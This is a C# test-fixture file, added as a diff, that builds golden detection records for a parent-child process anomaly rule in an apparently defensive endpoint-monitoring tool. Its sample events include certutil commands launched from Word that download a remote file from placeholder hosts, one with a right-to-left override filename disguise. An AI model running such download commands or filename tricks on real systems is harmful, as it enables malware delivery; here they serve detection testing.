@@ -1,0 +1,144 @@
+using System.Text;
+using Changeling.Baseline;
+using Changeling.Events;
+using Changeling.Features;
+using Changeling.Rules;
+using Changeling.TestSupport;
+
+namespace Changeling.Core.Tests.Rules;
+
+/// <summary>
+/// The detections whose bytes are kept in <c>Rules/Golden</c>: the story's launch, and whatever a source may lack or send.
+/// With <c>CHANGELING_REWRITE_GOLDEN=1</c> the files are written anew, for review in the diff.
+/// </summary>
+internal static class GoldenDetections
+{
+    public const string Version = "0.0.0";
+
+    private static readonly HostIdentity Workstation = new("ws-0417.corp.example", "f5e1c0a7d2b94c6e8a3b");
+
+    /// <summary>Name → detection.</summary>
+    public static IReadOnlyDictionary<string, Detection> All { get; } = new Dictionary<string, Detection>(StringComparer.Ordinal)
+    {
+        ["story"] = Of(Story),
+        ["note-while-learning"] = Of(Story) with { IsAlert = false },
+        ["no-user"] = Of(Story with { User = null, Host = new HostIdentity("ws-0417") }),
+        ["user-without-name"] = Of(Story with { User = new UserIdentity(null, "CORP") }),
+        ["nothing-but-names"] = Of(Bare with { Parent = new ParentProcess { Name = "winword.exe" } }),
+        ["no-parent-no-identity"] = Of(Bare) with
+        {
+            Evidence = new Evidence(Bare, new Prediction(0.7, true), null),
+            UsualChildren = [],
+            Reasons = [],
+        },
+        ["import-hash-alone"] = Of(Story with { Child = Story.Child with { Hashes = new FileHashes(ImpHash: new string('4', 32)) } }),
+        ["other-scripts"] = Of(Story with
+        {
+            User = new UserIdentity("Łucja.Żółw", "ΕΤΑΙΡΕΙΑ"),
+            Child = Story.Child with { CommandLine = "certutil.exe -urlcache -f \"http://例え.example/\ud83d\ude00?a=1&b=<x>'\" \u202eexe.doc" },
+        }),
+        ["command-line-of-32-KB"] = Of(Story with
+        {
+            Child = Story.Child with { CommandLine = Hostile(32 * 1024) },
+            Parent = Story.Parent! with { CommandLine = Hostile(9_000) },
+        }),
+    };
+
+    private static ProcessEvent Story => new()
+    {
+        Time = Some.Time,
+        Host = Workstation,
+        User = new UserIdentity("mara.lind", "CORP", "S-1-5-21-1004336348-1177238915-682003330-1104"),
+        Child = new ChildProcess
+        {
+            Name = "certutil.exe",
+            Path = @"C:\Windows\System32\certutil.exe",
+            CommandLine = @"certutil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt",
+            Pid = 6284,
+            Guid = "{8d3f21b6-5c43-690a-9b01-000000002f00}",
+            OriginalFileName = "CertUtil.exe",
+            Hashes = new FileHashes(new string('1', 32), new string('2', 40), new string('3', 64)),
+            Integrity = IntegrityLevel.Medium,
+        },
+        Parent = new ParentProcess
+        {
+            Name = "winword.exe",
+            Path = @"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
+            CommandLine = @"""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"" /n ""C:\Users\mara.lind\Downloads\offer.docm""",
+            Pid = 9120,
+            Guid = "{8d3f21b6-5c1f-690a-8c01-000000002f00}",
+        },
+        Format = SourceFormats.Winlogbeat,
+        SourceIdentity = "sysmon-1|ws-0417.corp.example|{8d3f21b6-5c43-690a-9b01-000000002f00}",
+    };
+
+    private static ProcessEvent Bare => new()
+    {
+        Time = Some.Time,
+        Host = new HostIdentity("ws-0417"),
+        Child = new ChildProcess { Name = "certutil.exe" },
+        Format = SourceFormats.Winlogbeat,
+        Notes = EventNotes.ParentInvalid | EventNotes.TimeSuspect,
+    };
+
+    /// <summary>The bytes as the app would commit them.</summary>
+    public static byte[] Write(Detection detection, DetectionFormat format) => format == DetectionFormat.Ecs
+        ? new EcsWriter(RuleSet.Shipped.Attack, Version).Write(detection)
+        : new FindingWriter(RuleSet.Shipped.Attack, Version).Write(detection);
+
+    public static string Read(string name, DetectionFormat format) => File.ReadAllText(PathOf(name, format)).TrimEnd('\n');
+
+    public static void Rewrite(string name, DetectionFormat format, byte[] bytes) => File.WriteAllBytes(PathOf(name, format), [.. bytes, (byte)'\n']);
+
+    /// <summary>A detection of rule 1 on an event, with counts that no estimator has a part in.</summary>
+    public static Detection Of(ProcessEvent e) => new()
+    {
+        Rule = RuleSet.Shipped.Definitions.Single(r => r.Id == "unusual-process-by-parent"),
+        Evidence = new Evidence(e, new Prediction(0.97314, true), new Rarity
+        {
+            Score = 92.914,
+            Surprise = 5.50864,
+            Share = 0.00019204,
+            Lineage = Lineage.Of(e.Parent?.Name ?? "winword.exe", e.Child.Name),
+            ChildCount = 0,
+            ParentCount = 18_204.25,
+            DistinctChildren = 41,
+            ParentFirstSeen = new DateTimeOffset(2026, 9, 18, 6, 2, 11, TimeSpan.Zero),
+            PriorWeight = 1,
+        }),
+        Model = new ModelIdentity("2026.11.1", new string('a', 64), 2, 0.62),
+        Reasons =
+        [
+            new("behaviour.web_address", 1.8204) { Text = Start(e.Child.CommandLine), Says = $"web address in {Start(e.Child.CommandLine)}" },
+            new("parent.kind.office", 0.9612) { Says = "Office program as the parent" },
+            new("child.known", -0.25) { Says = "known program of Windows" },
+        ],
+        UsualChildren = [Usual("splwow64.exe", 9_120), Usual("msedge.exe", 6_011), Usual("ai.exe", 1_450)],
+        Partition = new EventPartition("telemetry", "3"),
+        Position = new Position(0, 88_120_417, 0),
+        EnqueuedTime = Some.Time.AddSeconds(40).AddMilliseconds(518),
+        IsAlert = true,
+        HalfLifeDays = 30,
+    };
+
+    /// <summary>What breaks an encoder, over and over: quotes, backslashes, lone surrogates, separators that JavaScript minds, control characters.</summary>
+    private static string Hostile(int units)
+    {
+        const string piece = "\"\\'\ud800<\u2028\u2029&\u0000\u001b\u007f\udc00\u0085\ufeff%\ud83d\ude00é";
+        var text = new StringBuilder("certutil.exe ", units + piece.Length);
+        while (text.Length < units) text.Append(piece);
+        return text.ToString(0, units);
+    }
+
+    private static string? Start(string? text) => text is { Length: > 40 } ? text[..40] : text;
+
+    private static LaunchRow Usual(string child, int launches)
+    {
+        var history = new ParentHistory("winword.exe", [], HalfLife.Never);
+        for (var i = 0; i < launches; i++) history.Count(child, Some.Time, 0);
+        return history.Children.Single();
+    }
+
+    private static string PathOf(string name, DetectionFormat format) =>
+        RepositoryRoot.Combine("tests", "Core.Tests", "Rules", "Golden", $"{name}.{format.ToString().ToLowerInvariant()}.json");
+}
